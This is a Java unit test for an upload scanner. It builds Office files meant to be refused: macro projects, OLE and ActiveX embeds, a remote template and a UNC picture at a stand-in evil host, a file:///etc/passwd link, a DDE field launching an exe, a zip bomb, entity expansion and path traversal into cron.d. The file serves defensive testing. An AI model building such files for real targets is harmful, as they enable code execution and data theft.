package natsuin.uploads;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;
import natsuin.uploads.content.Content;
import natsuin.uploads.content.ContentVerdict;
import natsuin.uploads.content.FileType;
import natsuin.uploads.content.Unfit;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/** What the scanner calls clean and we do not (DOC-4). */
class OfficeAttackTest {
  private static final String MACRO_DOCX = "application/vnd.ms-word.document.macroEnabled.main+xml";
  private static final byte[] OLE2 = {
    (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1
  };

  private record Attack(String name, FileType type, byte[] file, Unfit expected) {}

  @TestFactory
  @DisplayName("DOC-4, Attack: office files that run, embed, fetch or swell")
  Stream<DynamicTest> attacks() {
    return Stream.of(
            docx("VbaProject", Map.of("word/vbaProject.bin", OLE2), Unfit.MACROS),
            docx(
                "VbaProjectUnderAnotherName",
                Map.of(
                    "word/data.bin",
                    new byte[] {1},
                    "word/_rels/document.xml.rels",
                    "<Relationships><Relationship Id=\"a\""
                        + " Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\""
                        + " Target=\"data.bin\"/></Relationships>"),
                Unfit.MACROS),
            docx(
                "DocmInsideDocx",
                Map.of("[Content_Types].xml", Samples.types("word/document.xml", MACRO_DOCX)),
                Unfit.MACROS),
            xlsx(
                "Excel4MacroSheet",
                Map.of(
                    "[Content_Types].xml",
                    Samples.types(
                        "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")),
                Unfit.MACROS),
            docx(
                "NestedArchive",
                Map.of("word/media/image1.png", Samples.zip(Map.of("a.txt", "a"))),
                Unfit.NESTED_ARCHIVE),
            docx("RarInside", Map.of("word/media/a.dat", "Rar!\u001a\u0007"), Unfit.NESTED_ARCHIVE),
            docx(
                "OleObject", Map.of("word/embeddings/oleObject1.bin", OLE2), Unfit.EMBEDDED_OBJECT),
            docx("ProgramInside", Map.of("word/media/a.bin", "MZ\u0090"), Unfit.EMBEDDED_OBJECT),
            xlsx(
                "ActiveX",
                Map.of(
                    "[Content_Types].xml",
                    Samples.types(
                        "xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
                Unfit.EMBEDDED_OBJECT),
            docx("AltChunk", rels("aFChunk", "chunk.html", ""), Unfit.EMBEDDED_OBJECT),
            docx(
                "RemoteTemplate",
                rels("attachedTemplate", "https://evil.example.jp/t.dotm", "External"),
                Unfit.EXTERNAL_CONTENT),
            docx(
                "LinkedPicture",
                rels("image", "\\\\evil.example.jp\\share\\a.png", "External"),
                Unfit.EXTERNAL_CONTENT),
            docx(
                "FileLink",
                rels("hyperlink", "file:///etc/passwd", "External"),
                Unfit.EXTERNAL_CONTENT),
            docx(
                "DdeField",
                Map.of(
                    "word/document.xml",
                    Samples.document(
                        "<w:r><w:fldChar"
                            + " w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO"
                            + " c:\\\\x.exe</w:instrText></w:r>")),
                Unfit.EXTERNAL_CONTENT),
            xlsx(
                "LinkedWorkbook",
                Map.of(
                    "xl/_rels/workbook.xml.rels",
                    Samples.relationships(
                        Samples.relationship("externalLink", "externalLinks/l.xml", ""))),
                Unfit.EXTERNAL_CONTENT),
            docx("DecompressionBomb", Map.of("word/media/a.bin", new byte[30 << 20]), Unfit.BOMB),
            docx("ManyEntries", many(), Unfit.BOMB),
            docx(
                "BillionLaughs",
                Map.of(
                    "word/document.xml",
                    "<!DOCTYPE a [<!ENTITY b \"bbbb\">]><w:document"
                        + " xmlns:w=\"x\">&b;</w:document>"),
                Unfit.DAMAGED),
            docx("PathOutside", Map.of("../../etc/cron.d/x", "x"), Unfit.DAMAGED),
            new Attack(
                "EncryptedEntry",
                FileType.DOCX,
                encryptedFlag(Samples.docx(Map.of())),
                Unfit.ENCRYPTED),
            new Attack("EncryptedOffice", FileType.DOCX, encryptedOffice(), Unfit.ENCRYPTED),
            new Attack(
                "XlsxNamedDocx", FileType.DOCX, Samples.xlsx(Map.of()), Unfit.NOT_WHAT_NAME_SAYS),
            new Attack(
                "PlainZipNamedXlsx",
                FileType.XLSX,
                Samples.zip(Map.of("a.txt", "a")),
                Unfit.NOT_WHAT_NAME_SAYS),
            new Attack("TwoEntriesOfOneName", FileType.DOCX, twice(), Unfit.DAMAGED),
            new Attack(
                "BytesBeforeTheArchive",
                FileType.DOCX,
                before(Samples.docx(Map.of())),
                Unfit.DAMAGED))
        .map(
            attack ->
                DynamicTest.dynamicTest(
                    attack.name(),
                    () ->
                        assertThat(Content.examine(attack.type(), attack.file()))
                            .isEqualTo(new ContentVerdict.Refused(attack.expected()))));
  }

  @Test
  @DisplayName(
      "DOC-3: an office file with a mail link, a picture and a printer's settings is taken")
  void ordinary() {
    var parts =
        new LinkedHashMap<String, Object>(rels("hyperlink", "mailto:a@example.jp", "External"));
    parts.put("word/media/image1.png", Samples.picture("png"));
    parts.put("word/printerSettings/printerSettings1.bin", new byte[] {4, 5, 6});
    assertThat(Content.examine(FileType.DOCX, Samples.docx(parts)))
        .isEqualTo(new ContentVerdict.Fit(2));
    assertThat(Content.page(FileType.DOCX, Samples.docx(parts), 1)).startsWith(0x89, 'P');
  }

  private static Attack docx(String name, Map<String, Object> parts, Unfit expected) {
    return new Attack(name, FileType.DOCX, Samples.docx(parts), expected);
  }

  private static Attack xlsx(String name, Map<String, Object> parts, Unfit expected) {
    return new Attack(name, FileType.XLSX, Samples.xlsx(parts), expected);
  }

  private static Map<String, Object> rels(String kind, String target, String mode) {
    return Map.of(
        "word/_rels/document.xml.rels",
        Samples.relationships(Samples.relationship(kind, target, mode)));
  }

  private static Map<String, Object> many() {
    var parts = new LinkedHashMap<String, Object>();
    for (int i = 0; i < 2100; i++) {
      parts.put("word/media/" + i, "x");
    }
    return parts;
  }

  /** Sets the bit 'encrypted' in every header. */
  private static byte[] encryptedFlag(byte[] zip) {
    for (int i = 0; i < zip.length - 10; i++) {
      if (zip[i] == 'P' && zip[i + 1] == 'K') {
        if (zip[i + 2] == 3) {
          zip[i + 6] |= 1;
        } else if (zip[i + 2] == 1) {
          zip[i + 8] |= 1;
        }
      }
    }
    return zip;
  }

  private static byte[] encryptedOffice() {
    byte[] name = "EncryptedPackage".getBytes(StandardCharsets.UTF_16LE);
    byte[] file = Arrays.copyOf(OLE2, 4096);
    System.arraycopy(name, 0, file, 1024, name.length);
    return file;
  }

  /** The second name becomes the first's by a change of one letter in every header. */
  private static byte[] twice() {
    byte[] zip = Samples.docx(Map.of("word/media/a1", "one", "word/media/a2", "two"));
    var text =
        new String(zip, StandardCharsets.ISO_8859_1).replace("word/media/a2", "word/media/a1");
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] before(byte[] zip) {
    byte[] head = {'P', 'K', 3, 4, 0, 0, 0, 0};
    byte[] both = Arrays.copyOf(head, head.length + zip.length);
    System.arraycopy(zip, 0, both, head.length, zip.length);
    return both;
  }
}
